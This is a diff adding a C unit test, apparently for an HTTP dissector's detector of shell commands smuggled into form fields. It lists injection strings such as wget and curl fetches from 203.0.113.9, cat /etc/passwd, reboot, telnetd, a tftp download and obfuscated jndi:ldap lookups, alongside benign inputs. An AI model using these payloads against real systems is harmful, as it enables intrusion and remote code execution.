@@ -8,6 +8,7 @@
 #include "base/when.h"
 #include "dissect_harness.h"
 #include "http/http.h"
+#include "http/http_command.h"
 #include "http/http_auth.h"
 #include "http/http_frame.h"
 #include "http/http_field.h"
@@ -722,6 +723,47 @@ START_TEST(counters)
 END_TEST
 
 /* What stands in tables must be findable: names ascending, each row explained. */
+START_TEST(commands_in_forms)
+{
+	static const struct {
+		const char *text;
+		bool found;
+	} rows[] = {
+	    {"target_addr=;wget+http://203.0.113.9/x", true},
+	    {"host=$(wget+http://203.0.113.9/x)", true},
+	    {"deviceName=;wget http://203.0.113.9/x;", true},
+	    {"ip=1.1.1.1;cat /etc/passwd", true},
+	    {"ip=1.1.1.1%3B%2fbin%2Fcat%20%2Fetc%2Fpasswd", true},
+	    {"ip=1.1.1.1%7Csleep+5", true},
+	    {"ip=1.1.1.1&&reboot+-f", true},
+	    {"ip=1.1.1.1%26%26telnetd", true},
+	    {"ip=%60tftp+-g+203.0.113.9%60", true},
+	    {"ip=1.1.1.1%0Acurl+203.0.113.9", true},
+	    {"a=$(id)", true},
+	    {"a=;cat${IFS}/etc/passwd", true},
+	    {"a=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", true},
+	    {"a=${${::-j}ndi:ldap://203.0.113.9/a}", true},
+	    /* what people and pages send */
+	    {"", false},
+	    {"ip=192.168.1.1&count=4", false},
+	    {"a=1&id=5&cat=/tools&ping=1", false},
+	    {"columns=name;id;date&sort=a|id|b", false},
+	    {"text=Bolts;+cat+litter,+sh+and+ls", false},
+	    {"text=first%0Aping+the+controller%0Aecho+it", false},
+	    {"text=see+wget+and+curl", false},
+	    {"path=a;id/5+", false},
+	    {"price=$5&(a)", false},
+	    {"a=%3", false},
+	    {"a=;", false},
+	    {"a=$(", false},
+	    {"a=$", false},
+	};
+
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
+		ck_assert_msg(http_form_has_command(span_str(rows[i].text)) == rows[i].found, "%s", rows[i].text);
+}
+END_TEST
+
 START_TEST(tables_are_sound)
 {
 	for (unsigned i = 0; i < HTTP_FIELDS; i++) {
@@ -775,6 +817,7 @@ int main(void)
 	tcase_add_test(t, an_odd_byte_anywhere_makes_no_text);
 	tcase_add_test(t, what_ends_as_a_head_has_one);
 	tcase_add_test(t, files_named_by_urls);
+	tcase_add_test(t, commands_in_forms);
 	tcase_add_test(t, tables_are_sound);
 	suite_add_tcase(suite, t);
 
